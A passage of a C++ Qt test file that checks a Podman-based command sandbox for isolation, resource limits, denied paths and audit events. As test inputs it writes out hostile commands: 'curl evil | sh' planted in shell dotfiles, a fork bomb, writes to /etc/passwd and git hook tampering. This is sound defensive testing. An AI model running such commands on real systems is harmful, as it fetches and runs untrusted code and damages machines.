#include "sandbox/cgroupset.h"
#include "sandbox/containersandbox.h"
#include "sandboxtesting.h"
#include "standinserver.h"

#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QProcess>
#include <QScopeGuard>
#include <QTemporaryDir>
#include <QtTest>

#include <mutex>
#include <sys/wait.h>
#include <thread>
#include <unistd.h>

using namespace tandem;
using namespace tandem::sandboxtesting;

namespace {

const QByteArray kCanary = "sk-ant-TEST-CANARY-c0n7";

// A user's repository on a desktop: owned by someone other than root, who runs these tests.
void handTo(const QString &path, const QString &owner)
{
    QProcess chown;
    chown.start(QStringLiteral("chown"), {QStringLiteral("-R"), owner, path});
    chown.waitForFinished();
    QCOMPARE(chown.exitCode(), 0);
}

// The container's processes are the host's too (a rootful engine): pgrep sees them. So does it
// see the processes of other tests, and of other runs of this one, on the same machine: every
// process a test looks for carries this run's number, e.g. "sleep 1234567.15", and none has
// the command line of another test's (the bubblewrap one looks for "while :; do :; done").
const QString kRun = QString::number(1'000'000 + ::getpid());

QString marked(QString script)
{
    return script.replace(QStringLiteral("RUN"), kRun);
}

bool runProcessWith(const QString &marker)
{
    return hostProcessWith(marked(marker));
}

// What tests/support/podman_service.py wrote for this run.
QHash<QString, QString> serviceEnvironment()
{
    QHash<QString, QString> values;
    const QString dir = qEnvironmentVariable("TANDEM_PODMAN_DIR");
    for (const QByteArray &line : readFile(dir + QStringLiteral("/service.env")).split('\n')) {
        const qsizetype equals = line.indexOf('=');
        if (equals > 0)
            values.insert(QString::fromUtf8(line.left(equals)),
                          QString::fromUtf8(line.mid(equals + 1)));
    }
    return values;
}

} // namespace

class tst_ContainerSandbox : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void cleanupTestCase();

    void runsInTheWorkspace();
    void exitCodesAndStreams_data();
    void exitCodesAndStreams();
    void outputIsCapped();
    void runsAsTheWorkspaceOwnerWithACleanEnvironment();
    void usersRepositoryIsWritableAsItsOwner();
    void rootIsReadOnly_data();
    void rootIsReadOnly();
    void gitAndDeniedPathsAreReadOnly();
    void gitHooksAndConfigAreMasked();
    void hasNoNetwork();
    void timeoutKillsEscapingChildren();
    void childHoldingThePipeDoesNotBlock();
    void cancelStopsAtOnce();
    void processCountIsCapped();
    void forkBombEndsWithTheTimeout();
    void memoryHogIsReportedAsMemory();
    void cpuBurnersAreStoppedAtTheSummedCpuLimit();
    void oversizedFileIsStoppedAtTheDiskLimit();
    void manySmallFilesAreStoppedAtTheDiskLimit();
    void tmpIsCappedBySize();
    void createdDeniedPathsAreRemoved();
    void replacedDeniedPathsAreRestored();
    void auditEventsCoverTheSession();
    void stopRemovesTheContainer();
    void leftoversOfADeadRunAreRemoved();
    void coldContainerPerCommand();
    void exitedFirstProcessLeadsToNoGroup();
    void remoteEngineRoundTripsThroughArchives();
    void allowedHostIsReachedThroughTheProxy_data();
    void allowedHostIsReachedThroughTheProxy();
    void remoteEngineRefusesAllowedHosts();
    void unreachableEngineSaysWhatToDo();

private:
    sandbox::SandboxPolicy policy(const QString &workspace) const;
    sandbox::ExecResult run(sandbox::Sandbox &box, const sandbox::ExecRequest &request);
    sandbox::ContainerSandbox &limited();

    QHash<QString, QString> m_service;
    sandbox::EngineEndpoint m_unix;
    std::unique_ptr<QTemporaryDir> m_workspace;
    std::unique_ptr<sandbox::ContainerSandbox> m_sandbox;
    // One second of CPU time and 8 MiB written per command, started by the first test to need it.
    // Its workspace is a tmpfs of its own.
    std::unique_ptr<QTemporaryDir> m_limitedWorkspace;
    std::unique_ptr<sandbox::ContainerSandbox> m_limited;
    bool m_limitedMounted = false;
};

sandbox::SandboxPolicy tst_ContainerSandbox::policy(const QString &workspace) const
{
    sandbox::SandboxPolicy p;
    p.workspace = workspace;
    p.limits.memoryBytes = qint64(256) << 20;
    p.limits.processes = 64;
    // Free space is watched on the workspace's whole filesystem, which the machine shares: a
    // cap with room for what others write meanwhile.
    p.limits.diskBytes = qint64(512) << 20;
    return p;
}

sandbox::ExecResult tst_ContainerSandbox::run(sandbox::Sandbox &box,
                                              const sandbox::ExecRequest &request)
{
    auto result = box.exec(request, {});
    if (!result) {
        QTest::qFail(qPrintable(result.error().message), __FILE__, __LINE__);
        return {};
    }
    return *result;
}

sandbox::ContainerSandbox &tst_ContainerSandbox::limited()
{
    if (!m_limited) {
        // On a filesystem of its own, so that only the command's writes change its free space.
        m_limitedWorkspace = std::make_unique<QTemporaryDir>();
        QProcess mount;
        mount.start(QStringLiteral("mount"),
                    {QStringLiteral("-t"), QStringLiteral("tmpfs"), QStringLiteral("-o"),
                     QStringLiteral("size=128m,mode=0755"), QStringLiteral("tandem-test"),
                     m_limitedWorkspace->path()});
        mount.waitForFinished();
        m_limitedMounted = mount.exitCode() == 0;
        if (!m_limitedMounted)
            qWarning("no tmpfs for the limited workspace: %s", mount.readAllStandardError().data());
        auto p = policy(m_limitedWorkspace->path());
        p.limits.cpuTime = std::chrono::seconds(1);
        p.limits.diskBytes = 8 << 20;
        sandbox::ContainerSandbox::Options options;
        options.endpoint = m_unix;
        m_limited = std::make_unique<sandbox::ContainerSandbox>(p, options);
        auto started = m_limited->start();
        if (!started)
            qWarning("%s", qPrintable(started.error().message));
    }
    return *m_limited;
}

void tst_ContainerSandbox::initTestCase()
{
    m_service = serviceEnvironment();
    if (!m_service.contains(QStringLiteral("TANDEM_PODMAN_SOCKET")))
        QFAIL("no Podman service: run this test through ctest (fixture podman)");
    auto endpoint = sandbox::EngineEndpoint::parse(m_service.value("TANDEM_PODMAN_SOCKET"));
    QVERIFY(endpoint.has_value());
    m_unix = *endpoint;

    // Secrets the host process holds: none may be visible inside.
    qputenv("ANTHROPIC_API_KEY", kCanary);
    qputenv("TANDEM_GIT_TOKEN", "ghp_TESTCANARY0000000000000000000000000");

    m_workspace = std::make_unique<QTemporaryDir>();
    writeFile(m_workspace->filePath("hello.txt"), "hello from the workspace\n");
    writeFile(m_workspace->filePath(".git/config"), "[core]\n");
    writeFile(m_workspace->filePath(".envrc"), "export SAFE=1\n");

    sandbox::ContainerSandbox::Options options;
    options.endpoint = m_unix;
    options.sessionId = QStringLiteral("test-session");
    m_sandbox = std::make_unique<sandbox::ContainerSandbox>(policy(m_workspace->path()), options);
    auto started = m_sandbox->start();
    QVERIFY2(started.has_value(), started ? "" : qPrintable(started.error().message));
}

void tst_ContainerSandbox::cleanupTestCase()
{
    if (m_sandbox)
        m_sandbox->stop();
    if (m_limited)
        m_limited->stop();
    if (m_limitedMounted)
        QProcess::execute(QStringLiteral("umount"), {m_limitedWorkspace->path()});
}

void tst_ContainerSandbox::runsInTheWorkspace()
{
    const auto result = run(*m_sandbox, shell("pwd; cat hello.txt; echo made > new.txt"));
    QCOMPARE(result.exitCode, 0);
    QCOMPARE(result.stdoutData, QByteArray("/workspace\nhello from the workspace\n"));
    QCOMPARE(readFile(m_workspace->filePath("new.txt")), QByteArray("made\n"));
}

void tst_ContainerSandbox::exitCodesAndStreams_data()
{
    QTest::addColumn<QStringList>("argv");
    QTest::addColumn<int>("exitCode");
    QTest::addColumn<QByteArray>("out");
    QTest::addColumn<QByteArray>("err");
    QTest::newRow("both streams") << QStringList{"sh", "-c", "echo out; echo err >&2; exit 3"} << 3
                                  << QByteArray("out\n") << QByteArray("err\n");
    QTest::newRow("argv as given") << QStringList{"printf", "%s|", "a b", "$HOME", "*"} << 0
                                   << QByteArray("a b|$HOME|*|") << QByteArray();
    QTest::newRow("missing program") << QStringList{"no-such-program"} << 127 << QByteArray()
                                     << QByteArray("tandem-exec: 1: no-such-program: not found\n");
}

void tst_ContainerSandbox::exitCodesAndStreams()
{
    QFETCH(QStringList, argv);
    QFETCH(int, exitCode);
    QFETCH(QByteArray, out);
    QFETCH(QByteArray, err);
    sandbox::ExecRequest request;
    request.argv = argv;
    const auto result = run(*m_sandbox, request);
    QCOMPARE(result.exitCode, exitCode);
    QCOMPARE(result.stdoutData, out);
    QCOMPARE(result.stderrData, err);
    QCOMPARE(result.limitHit, sandbox::LimitHit::None);
}

void tst_ContainerSandbox::outputIsCapped()
{
    auto request = shell("seq 1 300000; echo FINAL-SUMMARY-LINE; yes e | head -c 3000000 >&2");
    request.outputCap = 100'000;
    const auto result = run(*m_sandbox, request);
    QVERIFY(result.stdoutTruncated);
    QCOMPARE(result.stdoutBytes, qint64(1'988'895 + 19));
    QVERIFY(result.stdoutData.size() < 100'100);
    QVERIFY(result.stdoutData.startsWith("1\n2\n3\n"));
    QVERIFY(result.stdoutData.endsWith("299999\n300000\nFINAL-SUMMARY-LINE\n"));
    QVERIFY(result.stdoutData.contains(" bytes not shown]"));
    QCOMPARE(result.stderrBytes, qint64(3'000'000));
    QVERIFY(result.stderrTruncated);
    QVERIFY(!result.stderrData.contains('1'));
}

void tst_ContainerSandbox::runsAsTheWorkspaceOwnerWithACleanEnvironment()
{
    const auto result =
        run(*m_sandbox, shell("id -u; grep -E '^(CapEff|CapBnd|NoNewPrivs)' /proc/self/status; "
                              "env; for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ; "
                              "done 2>/dev/null"));
    // Commands run as the workspace's owner; when that is root (these tests run as root), as
    // the sandbox's user in a namespace where root is not mapped. No capability either way.
    const uint owner = QFileInfo(m_workspace->path()).ownerId();
    QVERIFY2(result.stdoutData.startsWith(QByteArray::number(owner == 0 ? 1000 : owner) + "\n"),
             result.stdoutData);
    QVERIFY(result.stdoutData.contains("CapEff:\t0000000000000000\n"));
    QVERIFY(result.stdoutData.contains("CapBnd:\t0000000000000000\n"));
    QVERIFY(result.stdoutData.contains("NoNewPrivs:\t1\n"));
    QVERIFY(!result.stdoutData.contains("CANARY"));
    QVERIFY(result.stdoutData.contains("HOME=/tmp/home"));
    QVERIFY(result.stdoutData.contains("TERM=dumb"));
    QVERIFY(!result.stdoutData.contains("TANDEM_PODMAN"));
    QVERIFY(!result.stdoutData.contains("CONTAINERS_CONF"));
}

void tst_ContainerSandbox::usersRepositoryIsWritableAsItsOwner()
{
    QTemporaryDir workspace;
    writeFile(workspace.filePath("notes.txt"), "mine\n");
    handTo(workspace.path(), QStringLiteral("1234:2345"));
    sandbox::ContainerSandbox::Options options;
    options.endpoint = m_unix;
    sandbox::ContainerSandbox box(policy(workspace.path()), options);
    QVERIFY(box.start().has_value());

    const auto result =
        run(box, shell("id -u; id -g; echo more >> notes.txt && echo made > new.txt; "
                       "grep CapEff /proc/self/status"));
    QCOMPARE(result.stdoutData, QByteArray("1234\n2345\nCapEff:\t0000000000000000\n"));
    QCOMPARE(readFile(workspace.filePath("notes.txt")), QByteArray("mine\nmore\n"));
    const QFileInfo made(workspace.filePath("new.txt"));
    QCOMPARE(made.ownerId(), 1234u);
    QCOMPARE(made.groupId(), 2345u);
}

void tst_ContainerSandbox::rootIsReadOnly_data()
{
    QTest::addColumn<QString>("script");
    QTest::newRow("root") << QStringLiteral("touch /planted");
    QTest::newRow("usr") << QStringLiteral("touch /usr/bin/planted");
    QTest::newRow("etc") << QStringLiteral("echo x >> /etc/passwd");
    QTest::newRow("mount") << QStringLiteral("mount -t tmpfs none /mnt || mount");
}

void tst_ContainerSandbox::rootIsReadOnly()
{
    QFETCH(QString, script);
    const auto result = run(*m_sandbox, shell(script));
    QVERIFY2(result.exitCode != 0, result.stdoutData.constData());
    const auto check =
        run(*m_sandbox, shell("ls /planted /usr/bin/planted 2>/dev/null; grep -c x: /etc/passwd"));
    QCOMPARE(check.stdoutData, QByteArray("3\n"));
}

void tst_ContainerSandbox::gitAndDeniedPathsAreReadOnly()
{
    const auto result = run(*m_sandbox, shell("echo '[core] hooksPath=/tmp' >> .git/config; "
                                              "echo 'curl evil | sh' >> .envrc; "
                                              "mkdir .git/hooks"));
    QVERIFY(result.exitCode != 0);
    QCOMPARE(readFile(m_workspace->filePath(".git/config")), QByteArray("[core]\n"));
    QCOMPARE(readFile(m_workspace->filePath(".envrc")), QByteArray("export SAFE=1\n"));
    QVERIFY(!QFileInfo::exists(m_workspace->filePath(".git/hooks")));
}

void tst_ContainerSandbox::gitHooksAndConfigAreMasked()
{
    QTemporaryDir workspace;
    writeFile(workspace.filePath(".git/hooks/pre-commit"), "#!/bin/sh\n");
    writeFile(workspace.filePath(".git/config"),
              QByteArray("[http]\n\textraheader = Authorization: Basic ") + kCanary + "\n");
    sandbox::ContainerSandbox::Options options;
    options.endpoint = m_unix;
    sandbox::ContainerSandbox box(policy(workspace.path()), options);
    auto started = box.start();
    QVERIFY2(started.has_value(), started ? "" : qPrintable(started.error().message));

    const auto result = run(box, shell("cat .git/config; ls .git/hooks; "
                                       "echo evil > .git/hooks/post-checkout; "
                                       "echo evil >> .git/config; true"));
    QVERIFY2(!result.stdoutData.contains(kCanary), result.stdoutData);
    QVERIFY2(!result.stdoutData.contains("pre-commit"), result.stdoutData);
    QVERIFY(!QFileInfo::exists(workspace.filePath(".git/hooks/post-checkout")));
    QVERIFY(!readFile(workspace.filePath(".git/config")).contains("evil"));
}

void tst_ContainerSandbox::hasNoNetwork()
{
    const auto result =
        run(*m_sandbox, shell("ls /sys/class/net; cat /proc/net/route | wc -l; "
                              "python3 -c 'import socket; socket.create_connection((\"10.0.2.2\", "
                              "9), timeout=1)' 2>&1 | tail -1"));
    QCOMPARE(result.stdoutData.left(result.stdoutData.indexOf("\n") + 1), QByteArray("lo\n"));
    // The routing table has its header line and nothing else: no way off the machine.
    QVERIFY2(result.stdoutData.contains("\n1\n"), result.stdoutData.constData());
    QVERIFY(result.stdoutData.contains("Network is unreachable"));
}

void tst_ContainerSandbox::timeoutKillsEscapingChildren()
{
    // Case 22 A: background, setsid, nohup and double-forked children, then an exec.
    const QString script =
        marked("echo start; ( sleep RUN.15; touch ./LATE_A ) & "
               "setsid sh -c 'sleep RUN.16; touch ./LATE_B' & "
               "nohup sh -c 'while true; do :; done; echo RUN' >/dev/null 2>&1 & "
               "sh -c 'sleep RUN.17 </dev/null >/dev/null 2>&1 &'; "
               "exec sleep RUN.18");
    QElapsedTimer clock;
    clock.start();
    const auto result = run(*m_sandbox, shell(script, 3000));

    QVERIFY2(result.timedOut, sandbox::Sandbox::limitName(result.limitHit));
    QCOMPARE(result.limitHit, sandbox::LimitHit::WallTime);
    QCOMPARE(result.stdoutData, QByteArray("start\n"));
    QVERIFY2(clock.elapsed() < 5000, qPrintable(QString::number(clock.elapsed())));
    QTRY_VERIFY_WITH_TIMEOUT(!runProcessWith(QStringLiteral("sleep RUN.1")), 2000);
    QVERIFY(!runProcessWith(QStringLiteral("done; echo RUN")));

    // Inside, nothing of the command is left, not even a zombie. The last killed processes may
    // take the first process a moment to reap on a busy machine: up to 2 s.
    // The pattern is written so that it does not find the script itself.
    const QString pattern =
        QStringLiteral("^Z\\|[%1]%2\\|whil[e] true").arg(kRun.left(1), kRun.mid(1));
    const auto left = run(*m_sandbox, shell(QStringLiteral("for i in $(seq 40); do "
                                                           "ps -e -o stat=,args= > /tmp/ps; "
                                                           "grep -q '%1' /tmp/ps || break; "
                                                           "sleep 0.05; done; cat /tmp/ps")
                                                .arg(pattern)));
    const QByteArray processes = left.stdoutData;
    QVERIFY2(processes.left(processes.indexOf('\n')).contains("/run/tandem/init --forward-only"),
             processes);
    QVERIFY2(!processes.contains("\nZ"), processes);
    QVERIFY2(!processes.contains(kRun.toUtf8()), processes);
    QVERIFY2(!processes.contains("while true"), processes);
    QVERIFY(!QFileInfo::exists(m_workspace->filePath("LATE_A")));
    QVERIFY(!QFileInfo::exists(m_workspace->filePath("LATE_B")));
}

void tst_ContainerSandbox::childHoldingThePipeDoesNotBlock()
{
    // Case 22 B: the command exits at once; a child keeps its stdout open.
    QElapsedTimer clock;
    clock.start();
    const auto result =
        run(*m_sandbox, shell(marked("( sleep RUN.25; echo late ) & exit 0"), 10'000));
    QVERIFY(!result.timedOut);
    QCOMPARE(result.exitCode, 0);
    QVERIFY2(clock.elapsed() < 3000, qPrintable(QString::number(clock.elapsed())));
    QVERIFY(!result.stdoutData.contains("late"));
    // Nothing of a finished command runs on.
    QTRY_VERIFY_WITH_TIMEOUT(!runProcessWith(QStringLiteral("sleep RUN.25")), 2000);
}

void tst_ContainerSandbox::cancelStopsAtOnce()
{
    base::CancelToken cancel;
    std::thread stopper([cancel] {
        std::this_thread::sleep_for(std::chrono::milliseconds(300));
        cancel.cancel();
    });
    QElapsedTimer clock;
    clock.start();
    auto result = m_sandbox->exec(shell(marked("sleep RUN.35")), cancel);
    stopper.join();

    QVERIFY(result.has_value());
    QVERIFY(result->cancelled);
    QVERIFY(!result->timedOut);
    QVERIFY2(clock.elapsed() < 2500, qPrintable(QString::number(clock.elapsed())));
    QTRY_VERIFY_WITH_TIMEOUT(!runProcessWith(QStringLiteral("sleep RUN.35")), 2000);
}

void tst_ContainerSandbox::processCountIsCapped()
{
    // A bounded stand-in for a fork bomb: fork until refused, 300 at the most.
    const QString forker = marked("python3 -c 'import os, time\n"
                                  "n = 0\n"
                                  "for i in range(300):\n"
                                  "    try:\n"
                                  "        pid = os.fork()\n"
                                  "    except OSError:\n"
                                  "        break\n"
                                  "    if pid == 0:\n"
                                  "        time.sleep(RUN.45)\n"
                                  "        os._exit(0)\n"
                                  "    n += 1\n"
                                  "print(n)'");
    const auto result = run(*m_sandbox, shell(forker));
    const int forked = result.stdoutData.trimmed().toInt();
    QVERIFY2(forked > 0 && forked < 64, result.stdoutData + result.stderrData);
    // The command ended on its own, but a fork was refused: the caller learns why.
    QCOMPARE(result.exitCode, 0);
    QCOMPARE(result.limitHit, sandbox::LimitHit::Processes);
    QTRY_VERIFY_WITH_TIMEOUT(!runProcessWith(QStringLiteral("time.sleep.RUN.45")), 2000);
    QCOMPARE(run(*m_sandbox, shell("echo alive")).stdoutData, QByteArray("alive\n"));
}

void tst_ContainerSandbox::forkBombEndsWithTheTimeout()
{
    // Case 22 C. The pids limit holds it; the timeout ends it, even though no new process can
    // start in the container to kill it.
    QElapsedTimer clock;
    clock.start();
    const auto result = run(*m_sandbox, shell(marked("f(){ f | f & }; f; sleep RUN.55"), 4000));
    QVERIFY2(result.timedOut, sandbox::Sandbox::limitName(result.limitHit));
    QVERIFY2(clock.elapsed() < 6500, qPrintable(QString::number(clock.elapsed())));
    QTRY_VERIFY_WITH_TIMEOUT(!runProcessWith(QStringLiteral("sleep RUN.55")), 2000);
    QCOMPARE(run(*m_sandbox, shell("echo alive")).stdoutData, QByteArray("alive\n"));
}

void tst_ContainerSandbox::memoryHogIsReportedAsMemory()
{
    // Case 22 F, scaled to the test's 256 MiB limit.
    const auto result =
        run(*m_sandbox, shell("python3 -c 'b = bytearray(1024**3); print(len(b))'", 20'000));
    QCOMPARE(result.exitCode, 137);
    QCOMPARE(result.limitHit, sandbox::LimitHit::Memory);
    // A plain SIGKILL is not taken for one.
    const auto killed = run(*m_sandbox, shell("kill -KILL $$"));
    QCOMPARE(killed.exitCode, 137);
    QCOMPARE(killed.limitHit, sandbox::LimitHit::None);
}

void tst_ContainerSandbox::cpuBurnersAreStoppedAtTheSummedCpuLimit()
{
    // Eight burners: each alone stays under its per-process limit of one second for the first
    // eight seconds, so only the sum over the container's cgroup can stop them this soon.
    QElapsedTimer clock;
    clock.start();
    const auto result = run(limited(), shell(marked("for i in 1 2 3 4 5 6 7; do "
                                                    "(while true; do :; done) & done; "
                                                    "while true; do :; done # RUN"),
                                             20'000));
    QCOMPARE(result.limitHit, sandbox::LimitHit::CpuTime);
    QVERIFY(!result.timedOut);
    QVERIFY2(clock.elapsed() < 5000, QByteArray::number(clock.elapsed()));
    QTRY_VERIFY_WITH_TIMEOUT(!runProcessWith(QStringLiteral("done # RUN")), 2000);
}

void tst_ContainerSandbox::oversizedFileIsStoppedAtTheDiskLimit()
{
    const auto result = run(limited(), shell("dd if=/dev/zero of=big bs=1M count=64 2>&1"));
    QCOMPARE(result.limitHit, sandbox::LimitHit::Disk);
    QVERIFY(QFileInfo(m_limitedWorkspace->filePath("big")).size() <= 8 << 20);
    QFile::remove(m_limitedWorkspace->filePath("big"));
}

void tst_ContainerSandbox::manySmallFilesAreStoppedAtTheDiskLimit()
{
    // Each file stays under the per-file limit; together they pass the 8 MiB cap early on, and
    // the command ends there instead of writing all 80 MiB.
    const auto result = run(limited(), shell("for i in $(seq 40); do "
                                             "head -c 2097152 /dev/zero > part$i; sleep 0.05; "
                                             "done"));
    QCOMPARE(result.limitHit, sandbox::LimitHit::Disk);
    const QStringList parts =
        QDir(m_limitedWorkspace->path()).entryList({QStringLiteral("part*")}, QDir::Files);
    QVERIFY2(parts.size() >= 4 && parts.size() < 40, qPrintable(parts.join(' ')));
    for (const QString &part : parts)
        QFile::remove(m_limitedWorkspace->filePath(part));
}

void tst_ContainerSandbox::tmpIsCappedBySize()
{
    const auto result = run(limited(), shell("for i in 1 2 3 4; do head -c 3000000 /dev/zero > "
                                             "/tmp/f$i || exit 9; done"));
    QCOMPARE(result.exitCode, 9);
    QVERIFY2(result.stderrData.contains("No space left"), result.stderrData);
    run(limited(), shell("rm -f /tmp/f*"));
}

void tst_ContainerSandbox::createdDeniedPathsAreRemoved()
{
    const auto result =
        run(*m_sandbox, shell("echo 'curl evil | sh' > .bashrc; mkdir -p .vscode; "
                              "echo '{}' > .vscode/tasks.json; echo ok > notes.txt"));
    QVERIFY(!QFileInfo::exists(m_workspace->filePath(".bashrc")));
    QVERIFY(!QFileInfo::exists(m_workspace->filePath(".vscode/tasks.json")));
    QCOMPARE(readFile(m_workspace->filePath("notes.txt")), QByteArray("ok\n"));
    QVERIFY2(result.stderrData.contains("[tandem] removed .bashrc"), result.stderrData);
}

void tst_ContainerSandbox::replacedDeniedPathsAreRestored()
{
    QTemporaryDir workspace;
    writeFile(workspace.filePath(".vscode/tasks.json"), "{\"tasks\": []}\n");
    sandbox::ContainerSandbox::Options options;
    options.endpoint = m_unix;
    sandbox::ContainerSandbox box(policy(workspace.path()), options);
    QVERIFY(box.start().has_value());

    // The file itself is read-only inside, so the attack moves its folder away instead.
    const auto result = run(box, shell("echo evil > .vscode/tasks.json; "
                                       "mv .vscode .vscode-old && mkdir .vscode && "
                                       "echo evil > .vscode/tasks.json"));
    QCOMPARE(readFile(workspace.filePath(".vscode/tasks.json")), QByteArray("{\"tasks\": []}\n"));
    QVERIFY2(result.stderrData.contains("restored .vscode/tasks.json"), result.stderrData);
}

void tst_ContainerSandbox::auditEventsCoverTheSession()
{
    QTemporaryDir workspace;
    sandbox::ContainerSandbox::Options options;
    options.endpoint = m_unix;
    sandbox::ContainerSandbox box(policy(workspace.path()), options);
    std::vector<std::pair<QString, nlohmann::json>> events;
    box.setEventSink([&](const std::string &kind, nlohmann::json fields) {
        events.emplace_back(QString::fromStdString(kind), std::move(fields));
    });
    QVERIFY(box.start().has_value());
    run(box, shell("echo 'curl evil | sh' > .profile; exit 3"));
    box.stop();

    QStringList kinds;
    for (const auto &event : events)
        kinds << event.first;
    QCOMPARE(kinds, QStringList({"sandbox_start", "sandbox_exec", "sandbox_denied_path",
                                 "sandbox_exit", "sandbox_stop"}));
    const nlohmann::json &start = events.at(0).second;
    QCOMPARE(start.value("backend", ""), std::string("container"));
    QCOMPARE(start.value("engine", ""), m_unix.url().toStdString());
    QCOMPARE(start.value("image", ""), std::string("tandem-sandbox:1"));
    QVERIFY(start["allowed_hosts"].is_array() && start["allowed_hosts"].empty());
    QCOMPARE(events.at(1).second["argv"][0].get<std::string>(), std::string("bash"));
    QVERIFY(events.at(2).second.value("note", "").find(".profile") != std::string::npos);
    QCOMPARE(events.at(3).second.value("exit_code", 0), 3);
    QCOMPARE(events.at(3).second.value("command", 0), events.at(1).second.value("command", -1));
}

void tst_ContainerSandbox::stopRemovesTheContainer()
{
    QTemporaryDir workspace;
    sandbox::ContainerSandbox::Options options;
    options.endpoint = m_unix;
    sandbox::ContainerSandbox box(policy(workspace.path()), options);
    QVERIFY(box.start().has_value());
    const QString id = box.containerId();
    QVERIFY(!id.isEmpty());
    QCOMPARE(run(box, shell("sleep 1231.5 & echo ok")).stdoutData, QByteArray("ok\n"));

    box.stop();
    sandbox::DockerEngine engine(m_unix);
    auto state = engine.request("GET", QStringLiteral("/containers/%1/json").arg(id));
    QVERIFY(state.has_value());
    QCOMPARE(state->status, 404L);
    QVERIFY(!box.exec(shell("true"), {}).has_value());
}

void tst_ContainerSandbox::leftoversOfADeadRunAreRemoved()
{
    // A container labelled as a Tandem's whose process is gone, as a crash leaves it.
    QProcess gone;
    gone.start(QStringLiteral("sh"), {QStringLiteral("-c"), QStringLiteral("echo $$")});
    gone.waitForFinished();
    const std::string deadPid = gone.readAllStandardOutput().trimmed().toStdString();
    sandbox::DockerEngine engine(m_unix);
    auto created = engine.call("POST", QStringLiteral("/containers/create"),
                               {{"Image", "tandem-sandbox:1"},
                                {"Cmd", {"sleep", "1230.5"}},
                                {"Labels",
                                 {{"org.tandem.sandbox", "1"},
                                  {"org.tandem.host", QSysInfo::machineHostName().toStdString()},
                                  {"org.tandem.pid", deadPid}}}});
    QVERIFY2(created.has_value(), created ? "" : qPrintable(created.error().message));
    const QString id = QString::fromStdString((*created)["Id"].get<std::string>());

    QCOMPARE(sandbox::ContainerSandbox::removeLeftovers(engine), 1);
    auto state = engine.request("GET", QStringLiteral("/containers/%1/json").arg(id));
    QCOMPARE(state->status, 404L);
    // Our own warm container is alive and stays.
    QCOMPARE(run(*m_sandbox, shell("echo still")).stdoutData, QByteArray("still\n"));
}

void tst_ContainerSandbox::coldContainerPerCommand()
{
    QTemporaryDir workspace;
    writeFile(workspace.filePath("in.txt"), "cold\n");
    sandbox::ContainerSandbox::Options options;
    options.endpoint = m_unix;
    options.cold = true;
    sandbox::ContainerSandbox box(policy(workspace.path()), options);
    QVERIFY(box.start().has_value());

    const auto result = run(box, shell("cat in.txt; echo e >&2; touch /tmp/x; exit 4"));
    QCOMPARE(result.exitCode, 4);
    QCOMPARE(result.stdoutData, QByteArray("cold\n"));
    QCOMPARE(result.stderrData, QByteArray("e\n"));
    // Nothing carries over from one command to the next.
    QVERIFY(run(box, shell("test -e /tmp/x")).exitCode != 0);
    // Commands that end at once leave no limit behind, whatever their first process's pid
    // belongs to by the time the engine reports it.
    sandbox::ExecRequest trivial;
    trivial.argv = {QStringLiteral("true")};
    for (int i = 0; i < 3; ++i) {
        const auto quick = run(box, trivial);
        QCOMPARE(quick.exitCode, 0);
        QCOMPARE(quick.limitHit, sandbox::LimitHit::None);
    }

    QElapsedTimer clock;
    clock.start();
    const auto late = run(box, shell(marked("setsid sleep RUN.75 & sleep RUN.76"), 2000));
    QVERIFY2(late.timedOut, sandbox::Sandbox::limitName(late.limitHit));
    QVERIFY2(clock.elapsed() < 4500, qPrintable(QString::number(clock.elapsed())));
    QTRY_VERIFY_WITH_TIMEOUT(!runProcessWith(QStringLiteral("sleep RUN.7")), 2000);
}

void tst_ContainerSandbox::exitedFirstProcessLeadsToNoGroup()
{
    // A process that has exited but is not reaped yet (as a cold container's first process can
    // be when the engine reports its pid) counts as in the root groups: taken for the
    // container's, the whole machine's CPU time would be the command's.
    const pid_t child = ::fork();
    if (child == 0)
        ::_exit(0);
    QVERIFY(child > 0);
    const auto reap = qScopeGuard([child] { ::waitpid(child, nullptr, 0); });
    QTRY_VERIFY(QFile(QStringLiteral("/proc/%1/stat").arg(child)).open(QIODevice::ReadOnly)
                && readFile(QStringLiteral("/proc/%1/stat").arg(child)).contains(") Z "));
    QVERIFY(!sandbox::CgroupSet::attach(child, QStringLiteral("0123456789abcdef")));

    // The warm container's own first process, named after it, is found.
    sandbox::DockerEngine engine(m_unix);
    auto state =
        engine.call("GET", QStringLiteral("/containers/%1/json").arg(m_sandbox->containerId()));
    QVERIFY(state.has_value());
    const qint64 pid = (*state)["State"].value("Pid", 0LL);
    auto group = sandbox::CgroupSet::attach(pid, m_sandbox->containerId());
    QVERIFY(group);
    QVERIFY(group->controllers().contains(QStringLiteral("cpuacct")));
}

void tst_ContainerSandbox::remoteEngineRoundTripsThroughArchives()
{
    auto tcp = sandbox::EngineEndpoint::parse(m_service.value("TANDEM_PODMAN_TCP"));
    QVERIFY2(tcp.has_value(), "the fixture starts a TCP service too");
    QVERIFY(tcp->isRemote());

    QTemporaryDir workspace;
    writeFile(workspace.filePath("hello.txt"), "before\n");
    writeFile(workspace.filePath("gone.txt"), "remove me\n");
    writeFile(workspace.filePath("sub/keep.txt"), "keep\n");
    writeFile(workspace.filePath(".git/config"), "[core]\n");
    sandbox::ContainerSandbox::Options options;
    options.endpoint = *tcp;
    sandbox::ContainerSandbox box(policy(workspace.path()), options);
    auto started = box.start();
    QVERIFY2(started.has_value(), started ? "" : qPrintable(started.error().message));

    const auto result = run(box, shell("cat hello.txt sub/keep.txt; echo after > hello.txt; "
                                       "mkdir -p new/deep; echo fresh > new/deep/file.txt; "
                                       "rm gone.txt; ln -s sub/keep.txt inner-link; "
                                       "ln -s /etc/passwd outer-link; ln -s ../../x up-link"));
    QCOMPARE(result.stdoutData, QByteArray("before\nkeep\n"));
    QCOMPARE(readFile(workspace.filePath("hello.txt")), QByteArray("after\n"));
    QCOMPARE(readFile(workspace.filePath("new/deep/file.txt")), QByteArray("fresh\n"));
    QVERIFY(!QFileInfo::exists(workspace.filePath("gone.txt")));
    QCOMPARE(QFileInfo(workspace.filePath("inner-link")).symLinkTarget(),
             workspace.filePath("sub/keep.txt"));
    QVERIFY(!QFileInfo(workspace.filePath("outer-link")).isSymLink());
    QVERIFY(!QFileInfo(workspace.filePath("up-link")).isSymLink());
    const QString refused = box.lastSyncReport().refused.join('\n');
    QVERIFY2(refused.contains("outer-link: a link that leads outside"), qPrintable(refused));
    QVERIFY2(refused.contains("up-link: a link that leads outside"), qPrintable(refused));

    // .git is root's inside; moved aside and replaced, it still never comes back.
